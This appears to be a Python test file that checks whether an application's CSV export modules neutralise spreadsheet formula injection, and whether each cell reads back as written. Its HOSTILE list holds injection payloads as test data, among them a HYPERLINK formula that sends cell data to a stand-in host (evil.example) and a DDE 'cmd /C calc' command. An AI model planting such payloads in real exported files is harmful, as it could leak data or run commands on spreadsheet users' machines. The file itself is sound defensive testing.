"""No cell of a file that we give is a formula in a spreadsheet, whatever customers and companies have written."""

import csv
import io
import re
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime
from types import SimpleNamespace
from typing import Any
from uuid import UUID
from zoneinfo import ZoneInfo

import msgspec
import pytest
from pydantic import BaseModel
from support.source_code import ROOT

from services.alerts.cases.domain.closing import CASE_OUTCOMES
from services.alerts.team_figures.domain import FigureDays, Figures, FiguresOf, Spread, TeamFigures
from services.alerts.team_figures.files import csv_of_figures
from services.alerts.team_figures.reading import FiguresRead
from services.dispatcher.imports import faults_file
from services.dispatcher.imports.remedies import encode_remedy
from services.dispatcher.imports.tables import OWN_COLUMNS
from services.dispatcher.moving_in.exports import _Lines
from services.dispatcher.suppressions.files import csv_of
from services.scorer.comparisons.comparison_query import ComparisonQuery
from services.scorer.comparisons.domain import ComparedSide, compare_sides
from services.scorer.comparisons.files import csv_of_comparisons, csv_of_trend
from services.scorer.comparisons.periods import counted_periods, periods_of
from services.scorer.comparisons.reading import ReadComparisons, ReadTrend
from services.scorer.comparisons.trend_query import TrendQuery
from services.scorer.domain import Groups
from services.scorer.exports.answers import AnswerLine, ReplyLine, csv_of_answers
from services.scorer.exports.domain import table_of
from services.scorer.responses.domain import ResponseCounts
from services.scorer.responses.files import csv_of_responses
from services.scorer.responses.reading import ResponsesAsked, ResponsesRead
from services.scorer.windows import Window
from shared.events import Tenant
from shared.pages.language import ReaderLocale, rendering_for
from shared.values.csv_cells import plain_cell
from shared.values.csv_files import lines_of
from shared.values.messages import message

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "\r\n=cmd|' /C calc'!A0",
    '";=1+1;"',
    '",=1+1',
    "'=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "a\n=1+1",
    'plain, with "quotes"; and\ta tab',
)
BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")

Written = Callable[[list[str]], tuple[str, str]]
"""Writes a file of these texts; returns it with its separator."""


def of_suppressions(texts: list[str]) -> tuple[str, str]:
    now = datetime(2026, 11, 30, tzinfo=UTC)
    rows: list[Any] = [
        SimpleNamespace(kind="customer", key=text, reason="listed", created_at=now) for text in texts
    ]
    return csv_of(rows), ","


def of_faults(separator: str) -> Written:
    """The names of columns, cells, cells behind the last column, the column at fault, a remedy that quotes."""

    def write(texts: list[str]) -> tuple[str, str]:
        row: Any = SimpleNamespace(
            row=2,
            cells=msgspec.json.encode([*texts, *texts]),
            column_name=texts[0],
            remedy=encode_remedy(message("%(text)s is no time.", text=texts[0])),
        )
        lines = [faults_file.names_line(texts), faults_file._line(texts, row)]
        return lines_of(lines, separator), separator

    return write


def of_moving_in(texts: list[str]) -> tuple[str, str]:
    file = io.BytesIO()
    lines = _Lines(file)
    lines.write(*texts)
    lines.end()
    return file.read().decode(), ","


def of_figures(texts: list[str]) -> tuple[str, str]:
    spread, day = Spread(n=0, median_hours=None, p90_hours=None), date(2026, 11, 30)
    none = Figures(
        cases=0,
        due=0,
        in_time=0,
        contactable=0,
        contacted=0,
        ended=0,
        reopened=0,
        outcomes=dict.fromkeys(CASE_OUTCOMES, 0),
        closed=0,
        with_cause=0,
        to_contact=spread,
        to_contact_working=spread,
        to_close=spread,
        to_close_working=spread,
    )
    names = {UUID(int=number): text for number, text in enumerate(texts)}
    rows = [FiguresOf(id=key, figures=none) for key in names]
    read = FiguresRead(
        days=FigureDays(first=day, last=day),
        figures=TeamFigures(total=none, teams=rows, people=rows, causes=[]),
        team_names=names,
        people_names=names,
        choosable_teams=names,
    )
    return csv_of_figures(read), ","


def of_responses(texts: list[str]) -> tuple[str, str]:
    day = date(2026, 11, 30)
    read = ResponsesRead(
        tenant=Tenant(id="acme", version=1, name="Acme", time_zone="UTC", country="DK"),
        asked=ResponsesAsked(),
        window=Window(day, day),
        total=ResponseCounts(),
        by_segment=dict.fromkeys(texts, ResponseCounts()),
        left_off=0,
        people_hidden=False,
        by_channel={},
        by_hour={},
        by_weekday={},
        is_over=True,
        silence="few_answers",
        silence_units="day",
        now=datetime(2026, 11, 30, tzinfo=UTC),
    )
    return csv_of_responses(read), ","


def of_comparisons(texts: list[str]) -> tuple[str, str]:
    """Each text as the name of a segment, and as that of the one that it is compared with."""
    window, none = Window(date(2026, 11, 1), date(2026, 11, 30)), Groups(0, 0, 0)
    sides = [ComparedSide(segment=text, window=window, groups=none, counts=None) for text in texts]
    query = ComparisonQuery(
        segments=tuple(texts),
        other="",
        dimension="",
        measurement="transactional",
        asked=window,
        against=window.before(),
    )
    read = ReadComparisons(
        query=query,
        tenant=Tenant(id="acme", version=1, name="Acme", time_zone="UTC", country="DK"),
        today=window.last,
        comparisons=[compare_sides(side, side) for side in sides],
        tests=0,
        marked=0,
        left_out=0,
    )
    return csv_of_comparisons(read), ","


def of_trends(texts: list[str]) -> tuple[str, str]:
    """A file for each text as the name of its segment."""
    window = Window(date(2026, 11, 1), date(2026, 11, 30))
    periods = counted_periods(periods_of(window, "month", window.last), {}, 30)
    files = []
    for text in texts:
        query = TrendQuery(
            segment=text, measurement="transactional", by="month", asked=window, rolling_days=30
        )
        tenant = Tenant(id="acme", version=1, name="Acme", time_zone="UTC", country="DK")
        files.append(csv_of_trend(ReadTrend(query=query, tenant=tenant, periods=periods)))
    return "".join(files), ","


class Part(BaseModel):
    """Of a document whose parts have rows of their own."""

    name: str
    names: list[str]
    by_name: dict[str, str]


class Document(BaseModel):
    """As those of the API are."""

    name: str
    part: Part | None
    parts: list[Part]


def of_documents(texts: list[str]) -> tuple[str, str]:
    """Each text as a field of a document, of its parts, and as an only item of a list and of a mapping."""
    parts = [Part(name=text, names=[text], by_name={text: text}) for text in texts]
    document = Document(name=texts[0], part=parts[-1], parts=parts)
    return lines_of(table_of(document, ("parts",))), ","


def of_answers(texts: list[str]) -> tuple[str, str]:
    at = datetime(2026, 11, 30, tzinfo=UTC)
    lines = [
        AnswerLine(
            answered_at=at, day=at.date(), measurement="transactional", score=3, group="detractor", was=None,
            touchpoint=text, segments=(text,), origin="survey", language=text, comment=text, themes=(text,),
            replies=(ReplyLine("reason", text, text),), case=None,
        )
        for text in texts
    ]  # fmt: skip
    return csv_of_answers(lines), ","


FILES: dict[str, list[Written]] = {
    "services/alerts/team_figures/files.py": [of_figures],
    "services/scorer/csv_files.py": [of_comparisons, of_trends, of_responses],
    "services/scorer/exports/files.py": [of_documents],
    "services/scorer/exports/domain.py": [of_documents],
    "services/scorer/exports/answers.py": [of_answers],
    "services/scorer/exports/api.py": [of_documents],
    "services/dispatcher/suppressions/files.py": [of_suppressions],
    "services/dispatcher/imports/faults_file.py": [of_faults(";"), of_faults(","), of_faults("\t")],
    "services/dispatcher/moving_in/exports.py": [of_moving_in],
    "shared/values/csv_files.py": [of_documents],
}
"""Each module that writes such a file."""
WRITES = re.compile(
    r"\bcsv\.(writer|DictWriter)\(|\"text/csv; charset|^from shared\.values\.csv_files import", re.MULTILINE
)
WRITERS = {"shared/values/csv_files.py", "services/dispatcher/moving_in/exports.py"}
"""The one writer, and that of files which our own imports read alone."""


@pytest.fixture(autouse=True)
def _reader() -> Iterator[None]:
    """Some files have sentences in the language of who reads them."""
    with rendering_for(ReaderLocale("en", ZoneInfo("UTC"), datetime(2026, 11, 30, tzinfo=UTC))):
        yield


@pytest.mark.parametrize("module", FILES)
def test_b34_no_cell_begins_like_a_formula_and_each_is_read_as_it_was(module: str) -> None:
    for write in FILES[module]:
        text, separator = write(list(HOSTILE))
        cells = [
            cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row
        ]
        assert [cell for cell in cells if cell.startswith(BEGINNINGS)] == []
        plain = [plain_cell(cell) for cell in cells]
        assert [each for each in HOSTILE if each not in plain] == []
        for line in text.splitlines():  # a spreadsheet that takes no quotes for what they are
            assert not line.startswith("=HYPERLINK")


def test_b34_every_module_that_writes_such_a_file_is_tried_above() -> None:
    writing = {
        str(path.relative_to(ROOT))
        for folder in ("services", "shared", "deploy")
        for path in (ROOT / folder).rglob("*.py")
        if WRITES.search(path.read_text())
    }
    assert writing == set(FILES)
    assert set(OWN_COLUMNS).isdisjoint(HOSTILE)


def test_there_is_one_writer_and_one_byte_order_mark() -> None:
    modules = {
        str(path.relative_to(ROOT)): path.read_text()
        for folder in ("services", "shared")
        for path in (ROOT / folder).rglob("*.py")
    }
    assert {name for name, text in modules.items() if "csv.writer(" in text} == WRITERS
    marks = {name for name, text in modules.items() if re.search(r"^\w+ = \"\\ufeff\"", text, re.MULTILINE)}
    assert marks == {"shared/values/csv_files.py"}
